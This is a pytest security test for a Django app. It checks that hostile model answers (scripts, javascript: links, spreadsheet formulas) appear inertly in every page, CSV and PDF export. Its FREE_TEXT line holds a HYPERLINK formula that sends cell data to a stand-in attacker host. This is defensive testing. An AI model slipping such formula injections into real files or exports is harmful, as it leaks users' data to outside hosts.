"""Every run of every app finishes with a schema-valid but hostile answer (script, javascript: links, spreadsheet
formulas): after the apps have turned those answers into their records, every page, CSV and PDF shows them inertly.

The answers go through the same done-handlers a real run's answer does (core.run_state.mark_done); the path from
a real engine to the page is covered in test_no_script_runs_in_the_browser.py.
"""

from __future__ import annotations

import csv
import io
import json
import random

import pytest
from django.test import Client

from core.models import Run, RunStatus
from core.run_state import mark_done
from inference.prompts import get_template
from inference.protocol import ChatResult, Usage
from tests.security.conftest import world_record_ids
from tests.security.openapi_fuzz import call, operations, path_for, plausible_body, request_body
from tests.security.routes import all_routes
from tests.security.untrusted_text import HOSTILE_TEXT, formula_cells, hostile_json, live_markup, pdf_active_content

AREAS = ["core", "inspection", "support", "tutoring"]
FREE_TEXT = '=HYPERLINK("http://evil.example/?"&A1,"open")\n' + HOSTILE_TEXT  # a formula first, then markup


def finish_runs_with_hostile_answers(rounds: int = 4) -> int:
    """Answer every waiting run as a hostile engine would; done handlers may start follow-up runs, so repeat."""
    finished = 0
    for _ in range(rounds):
        waiting = list(Run.objects.filter(status=RunStatus.QUEUED))
        for run in waiting:
            schema = get_template(run.task).schema
            text = hostile_json(schema) if schema else FREE_TEXT
            Run.objects.filter(id=run.id).update(status=RunStatus.RUNNING)
            result = ChatResult(text, "stop", Usage(10, 20), 0.01, 0.1, json.loads(text) if schema else None)
            mark_done(run.id, result)
            finished += 1
    return finished


def post_everywhere(client, ctx, ending: str) -> None:
    """POST to every operation whose path ends so (explain, approve...), with a plausible body."""
    for op in operations():
        if op.method == "POST" and op.path.endswith(ending):
            spec = request_body(op)
            body = plausible_body(spec[1], ctx, random.Random(op.id)) if spec else {}
            call(client, op, path_for(op, ctx, random.Random(op.id)), {}, body)


def take_every_record_to_its_end(client, ctx) -> None:
    """Answer every run, ask for the next step where there is one (explanations), answer again, approve: so the
    exports, made from approved records, exist."""
    assert finish_runs_with_hostile_answers() >= 2
    post_everywhere(client, ctx, "/explain/")
    finish_runs_with_hostile_answers()
    post_everywhere(client, ctx, "/approve/")


def area_of(pattern: str) -> str:
    first = pattern.split("/", 1)[0]
    return first if first in AREAS else "core"


def problems_in(response) -> list[str]:
    kind = response.get("Content-Type", "")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if kind.startswith("text/html"):
        return live_markup(body.decode(errors="replace"))
    if kind.startswith("text/csv"):
        rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
        return [f"formula cell {cell!r}" for cell in formula_cells(rows)]
    if kind.startswith("application/pdf"):
        return pdf_active_content(body)
    return []


@pytest.mark.parametrize("area", AREAS)
def test_hostile_model_output_is_inert_in_every_page_csv_and_pdf(world, area):
    client, ctx = world
    take_every_record_to_its_end(client, ctx)
    values = world_record_ids(ctx)
    browser = Client()
    browser.force_login(Run.objects.exclude(created_by=None).first().created_by)

    kinds: dict[str, int] = {}
    failures = []
    for route in [r for r in all_routes() if area_of(r.pattern) == area and r.name != "logout"]:
        if (url := route.url(values)) is None:
            continue
        response = browser.get(url)
        kind = response.get("Content-Type", "").split(";")[0]
        kinds[kind] = kinds.get(kind, 0) + 1
        failures += [f"{url}: {problem}" for problem in problems_in(response)]

    assert kinds.get("text/html", 0) >= 2 and (area in ("core", "support") or kinds.get("application/pdf")), kinds
    assert not failures, "\n".join(failures)
